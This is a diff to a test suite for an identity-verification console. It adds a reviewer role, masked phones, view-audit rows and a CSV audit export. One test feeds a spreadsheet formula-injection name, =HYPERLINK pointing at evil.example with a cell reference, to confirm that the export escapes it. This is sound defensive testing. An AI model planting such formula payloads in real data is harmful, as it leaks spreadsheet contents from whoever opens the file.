@@ -28,9 +28,10 @@ interface QueueItem {
 
 describe.each(dialects)("the console's review queue (%s)", (dialect) => {
   let svc: TestService;
-  /** Each organization's admin's and member's sessions. */
-  const sessions = new Map<string, { admin: string; member: string }>();
+  /** Each organization's admin's, reviewer's and member's sessions. */
+  const sessions = new Map<string, { admin: string; reviewer: string; member: string }>();
   const admin = (org: TestOrganization) => sessions.get(org.id)?.admin ?? '';
+  const reviewer = (org: TestOrganization) => sessions.get(org.id)?.reviewer ?? '';
   const member = (org: TestOrganization) => sessions.get(org.id)?.member ?? '';
 
   beforeAll(async () => {
@@ -42,6 +43,7 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
       await call(svc.app, 'POST', '/webhooks', { key: org.privateKey, body: { name: 'default', url: `https://hooks.example.test/${domain}` } });
       sessions.set(org.id, {
         admin: await signedInUser(svc, org, `admin@${domain}.test`, 'admin', '198.51.100.20'),
+        reviewer: await signedInUser(svc, org, `reviewer@${domain}.test`, 'reviewer', '198.51.100.20'),
         member: await signedInUser(svc, org, `member@${domain}.test`, 'member', '198.51.100.20'),
       });
     }
@@ -49,8 +51,10 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
   afterAll(async () => svc.close());
 
   /** A face validation of `org` whose face photo the matcher found alike but perhaps printed: BLOCKED for a person, LIVENESS_SUSPECT. */
-  async function blockedValidation(org: TestOrganization): Promise<string> {
-    const { code } = (await call(svc.app, 'POST', '/veriface', { key: org.privateKey, body: verifaceBody(org.email, { platform: 'web' }) })).json();
+  async function blockedValidation(org: TestOrganization, name = 'Juan Pérez'): Promise<string> {
+    const created = await call(svc.app, 'POST', '/veriface', { key: org.privateKey, body: verifaceBody(org.email, { platform: 'web', name }) });
+    expect(created.statusCode, created.body).toBe(200);
+    const { code } = created.json();
     const { link_token: token } = await svc.deps.db.selectFrom('veriface_processes').select('link_token').where('code', '=', code).executeTakeFirstOrThrow();
     await submitDocumentPhoto(svc.deps, { token, side: 'front', image: jpeg() });
     await submitFacePhoto(svc.deps, { token, image: jpeg() });
@@ -98,7 +102,7 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
       const validation = await blockedValidation(svc.orgA);
       const { queueCode } = await blockedSigner(svc.orgA);
       const ofB = await blockedValidation(svc.orgB);
-      const items = await queue(member(svc.orgA));
+      const items = await queue(reviewer(svc.orgA));
       const codes = items.map((item) => item.code);
       expect(codes.indexOf(queueCode)).toBeLessThan(codes.indexOf(validation));
       expect(codes).not.toContain(ofB);
@@ -132,13 +136,13 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
         { kind: 'validation', code, photo: 'documentFront' },
         { kind: 'signer', code: queueCode, photo: 'face' },
       ]) {
-        const res = await photo(member(svc.orgA), query);
+        const res = await photo(reviewer(svc.orgA), query);
         expect(res.statusCode, res.body).toBe(200);
         expect(res.headers['content-type']).toBe('image/jpeg');
         expect(res.headers['cache-control']).toBe('no-store');
         expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
       }
-      expect((await photo(member(svc.orgA), { kind: 'validation', code, photo: 'documentBack' })).json()).toEqual({ message: 'FILE_NOT_FOUND' });
+      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'documentBack' })).json()).toEqual({ message: 'FILE_NOT_FOUND' });
     });
 
     it("another organization's session, no session, or a key get nothing", async () => {
@@ -160,13 +164,13 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
   describe('approve, reject or reset with a reason, through the API’s own decisions, recorded with who decided', () => {
     it('approving a validation makes it VALIDATED by the user, sends veriface.validated, and leaves the queue and its photos', async () => {
       const code = await blockedValidation(svc.orgA);
-      const res = await decide(member(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Checked the ID in person' });
+      const res = await decide(reviewer(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Checked the ID in person' });
       expect([res.statusCode, res.json()]).toEqual([200, { decided: true }]);
       expect(await verifaceStatus(code)).toBe('VALIDATED');
       const validated = (await webhookEvents(svc.orgA)).find((e) => e.type === 'veriface.validated' && e.data.code === code);
-      expect(validated?.data).toMatchObject({ emailValidated: 'member@acme.test', reason: 'Checked the ID in person' });
+      expect(validated?.data).toMatchObject({ emailValidated: 'reviewer@acme.test', reason: 'Checked the ID in person' });
       expect(await audit(svc.orgA)).toContainEqual({
-        email: 'member@acme.test',
+        email: 'reviewer@acme.test',
         detail: { kind: 'validation', code, decision: 'approve', reason: 'Checked the ID in person' },
       });
       expect((await queue(admin(svc.orgA))).map((item) => item.code)).not.toContain(code);
@@ -186,12 +190,12 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
       expect((await stored(svc, svc.orgA, first.processCode)).participants[0]).toMatchObject({ status: 'NOTIFICATION', camera_failures: 0, face_key: null });
       expect((await webhookEvents(svc.orgA)).map((e) => e.type)).toContain('document.signer_unlocked');
       const second = await blockedSigner(svc.orgA);
-      expect((await decide(member(svc.orgA), { kind: 'signer', code: second.queueCode, decision: 'reject', reason: 'Not the same person' })).statusCode).toBe(
+      expect((await decide(reviewer(svc.orgA), { kind: 'signer', code: second.queueCode, decision: 'reject', reason: 'Not the same person' })).statusCode).toBe(
         200,
       );
       expect((await stored(svc, svc.orgA, second.processCode)).process).toMatchObject({ status: 'REJECTED' });
       expect(await audit(svc.orgA)).toContainEqual({
-        email: 'member@acme.test',
+        email: 'reviewer@acme.test',
         detail: { kind: 'signer', code: second.queueCode, decision: 'reject', reason: 'Not the same person' },
       });
     });
@@ -244,6 +248,158 @@ describe.each(dialects)("the console's review queue (%s)", (dialect) => {
       expect(await verifaceStatus(code)).toBe('BLOCKED');
       expect((await stored(svc, svc.orgA, processCode)).participants[0]?.status).toBe('BLOCK');
       expect(await outbox(svc, 'webhook')).toHaveLength(webhooksBefore);
+    });
+  });
+
+  /** The organization's audit rows of one action, oldest first, with their detail read. */
+  const auditOf = async (org: TestOrganization, action: string) =>
+    (
+      await svc.deps.db
+        .selectFrom('console_audit')
+        .selectAll()
+        .where('organization_id', '=', org.id)
+        .where('action', '=', action)
+        .orderBy('created_at')
+        .orderBy('id')
+        .execute()
+    ).map((row) => ({ email: row.email, detail: JSON.parse(row.detail ?? '{}') }));
+  /** A process of `org` whose one signer has a phone: its code and the signer's id. */
+  const processWithPhone = async (org: TestOrganization): Promise<{ code: string; participant: string }> => {
+    const signProfile = [{ name: 'Lucía Gómez', email: 'lucia@people.test', phone: '+573001234567' }];
+    const code = await createProcess(svc, org, '/document/upload', pdfProcess(org, { signProfile }));
+    return { code, participant: (await stored(svc, org, code)).participants[0]?.participant_id ?? '' };
+  };
+  const processDetail = (cookie: string, code: string) => consoleCall(svc, 'GET', '/console/api/process', { cookie, query: { code } });
+
+  describe('who may view identity data is a role of its own: reviewers and admins may, members may not', () => {
+    it('a member is refused the queue, the photos and the decisions with 403 CONSOLE_REVIEWER_REQUIRED, each refusal recorded; a reviewer and an admin are served', async () => {
+      const code = await blockedValidation(svc.orgA);
+      const { queueCode } = await blockedSigner(svc.orgA);
+      const refusedBefore = (await auditOf(svc.orgA, 'REVIEWER_REQUIRED')).length;
+      const refused = [
+        await consoleCall(svc, 'GET', '/console/api/review', { cookie: member(svc.orgA) }),
+        await photo(member(svc.orgA), { kind: 'validation', code, photo: 'face' }),
+        await photo(member(svc.orgA), { kind: 'signer', code: queueCode, photo: 'documentFront' }),
+        await decide(member(svc.orgA), { kind: 'validation', code, decision: 'approve', reason: 'Looks fine' }),
+      ];
+      for (const res of refused) expect([res.statusCode, res.json()]).toEqual([403, { message: 'CONSOLE_REVIEWER_REQUIRED' }]);
+      expect(await verifaceStatus(code)).toBe('BLOCKED');
+      const refusals = (await auditOf(svc.orgA, 'REVIEWER_REQUIRED')).slice(refusedBefore);
+      expect(refusals.map((row) => [row.email, row.detail.route])).toEqual([
+        ['member@acme.test', 'GET /console/api/review'],
+        ['member@acme.test', 'GET /console/api/review/photo'],
+        ['member@acme.test', 'GET /console/api/review/photo'],
+        ['member@acme.test', 'POST /console/api/review/decide'],
+      ]);
+      expect(await auditOf(svc.orgB, 'REVIEWER_REQUIRED')).toEqual([]);
+      for (const cookie of [reviewer(svc.orgA), admin(svc.orgA)]) {
+        expect((await queue(cookie)).map((item) => item.code)).toContain(code);
+        expect((await photo(cookie, { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
+      }
+      expect((await decide(reviewer(svc.orgA), { kind: 'validation', code, decision: 'reject', reason: 'Not the same person' })).json()).toEqual({
+        decided: true,
+      });
+      expect(await verifaceStatus(code)).toBe('INVALIDATED');
+    });
+
+    it("a member reads a process's phones masked to their last two digits, and no audit row is written; a reviewer reads them whole", async () => {
+      const { code } = await processWithPhone(svc.orgA);
+      const before = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).length;
+      const seen = await processDetail(member(svc.orgA), code);
+      expect(seen.statusCode, seen.body).toBe(200);
+      expect(seen.body).not.toContain('3001234567');
+      expect(seen.json().process.signProfile[0].phone).toBe('+••••••••••67');
+      expect(seen.json().roadmap.participants[0].phone).toBe('+••••••••••67');
+      expect(await auditOf(svc.orgA, 'IDENTITY_VIEWED')).toHaveLength(before);
+      const whole = await processDetail(reviewer(svc.orgA), code);
+      expect(whole.json().process.signProfile[0].phone).toBe('+573001234567');
+      expect((await processDetail(admin(svc.orgB), code)).json()).toEqual({ message: 'DOCUMENT_NOT_FOUND' });
+    });
+  });
+
+  describe('every view of a photo, an ID number or a phone is an audit entry: who, when, which process, which photo or field', () => {
+    it('each photo served adds a PHOTO_VIEWED row naming the user, the process, the person and the photo; a refused view adds none', async () => {
+      const code = await blockedValidation(svc.orgA);
+      const { queueCode, processCode } = await blockedSigner(svc.orgA);
+      const before = (await auditOf(svc.orgA, 'PHOTO_VIEWED')).length;
+      svc.clock.advance(1000);
+      const at = svc.clock.now().toISOString();
+      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
+      expect((await photo(admin(svc.orgA), { kind: 'signer', code: queueCode, photo: 'documentFront' })).statusCode).toBe(200);
+      expect((await photo(admin(svc.orgB), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(404);
+      expect((await photo(member(svc.orgA), { kind: 'validation', code, photo: 'documentFront' })).statusCode).toBe(403);
+      const rows = await svc.deps.db
+        .selectFrom('console_audit')
+        .select(['email', 'detail', 'created_at', 'user_id'])
+        .where('organization_id', '=', svc.orgA.id)
+        .where('action', '=', 'PHOTO_VIEWED')
+        .orderBy('id')
+        .execute();
+      const added = rows.slice(before);
+      expect(added.map((row) => [row.email, row.created_at, row.user_id !== null, JSON.parse(row.detail ?? '{}')])).toEqual([
+        ['reviewer@acme.test', at, true, { kind: 'validation', process: code, name: 'Juan Pérez', photo: 'face' }],
+        [
+          'admin@acme.test',
+          at,
+          true,
+          { kind: 'signer', process: processCode, participant: queueCode.slice(processCode.length), name: 'Juan Pérez', photo: 'documentFront' },
+        ],
+      ]);
+      expect(await auditOf(svc.orgB, 'PHOTO_VIEWED')).toEqual([]);
+    });
+
+    it('the queue adds an IDENTITY_VIEWED row for each item whose ID number it shows, and the process page one for each phone it shows whole', async () => {
+      const code = await blockedValidation(svc.orgA);
+      const ofB = await blockedValidation(svc.orgB);
+      const before = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).length;
+      const items = await queue(reviewer(svc.orgA));
+      const shown = (await auditOf(svc.orgA, 'IDENTITY_VIEWED')).slice(before);
+      expect(shown).toHaveLength(items.filter((item) => item.numberDeclared !== undefined).length);
+      expect(shown).toContainEqual({ email: 'reviewer@acme.test', detail: { kind: 'validation', process: code, name: 'Juan Pérez', field: 'identification' } });
+      expect(shown.map((row) => row.detail.process)).not.toContain(ofB);
+      const { code: withPhone, participant } = await processWithPhone(svc.orgA);
+      await processDetail(admin(svc.orgA), withPhone);
+      expect((await auditOf(svc.orgA, 'IDENTITY_VIEWED')).at(-1)).toEqual({
+        email: 'admin@acme.test',
+        detail: { kind: 'signer', process: withPhone, participant, name: 'Lucía Gómez', field: 'phone' },
+      });
+      expect((await auditOf(svc.orgB, 'IDENTITY_VIEWED')).map((row) => row.detail.process)).not.toContain(withPhone);
+    });
+  });
+
+  describe("the console's audit log exports as CSV with these entries, formula cells escaped, to the organization's admins only", () => {
+    const exported = (cookie: string) => consoleCall(svc, 'GET', '/console/api/audit/csv', { cookie });
+
+    it('the CSV holds each photo view with its user, process and photo, and a name like =HYPERLINK(...) comes out as text', async () => {
+      const name = '=HYPERLINK("https://evil.example/?"&A1,"Juan")';
+      const code = await blockedValidation(svc.orgA, name);
+      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
+      const res = await exported(admin(svc.orgA));
+      expect(res.statusCode, res.body).toBe(200);
+      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+      expect(res.headers['content-disposition']).toMatch(/^attachment; filename="console-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
+      expect(res.headers['cache-control']).toBe('no-store');
+      const lines = res.body.split('\r\n');
+      expect(lines[0]).toBe('at,action,email,address,process,participant,name,photo,field,detail');
+      const line = lines.find((text) => text.includes('"PHOTO_VIEWED"') && text.includes(code));
+      expect(line).toBe(
+        `"${svc.clock.now().toISOString()}","PHOTO_VIEWED","reviewer@acme.test","127.0.0.1","${code}","","'=HYPERLINK(""https://evil.example/?""&A1,""Juan"")","face","","{""kind"":""validation""}"`,
+      );
+      expect(res.body).not.toMatch(/(^|,)"[=+\-@]/m);
+    });
+
+    it("another organization's admin exports none of them, and a member or a reviewer is refused the export", async () => {
+      const code = await blockedValidation(svc.orgA);
+      expect((await photo(reviewer(svc.orgA), { kind: 'validation', code, photo: 'face' })).statusCode).toBe(200);
+      const ofB = await exported(admin(svc.orgB));
+      expect(ofB.statusCode).toBe(200);
+      expect(ofB.body).not.toContain(code);
+      expect(ofB.body).not.toContain('acme.test');
+      expect(ofB.body).toContain('admin@globex.test');
+      for (const cookie of [member(svc.orgA), reviewer(svc.orgA)]) {
+        const refused = await exported(cookie);
+        expect([refused.statusCode, refused.json()]).toEqual([403, { message: 'CONSOLE_ADMIN_REQUIRED' }]);
+      }
     });
   });
 });
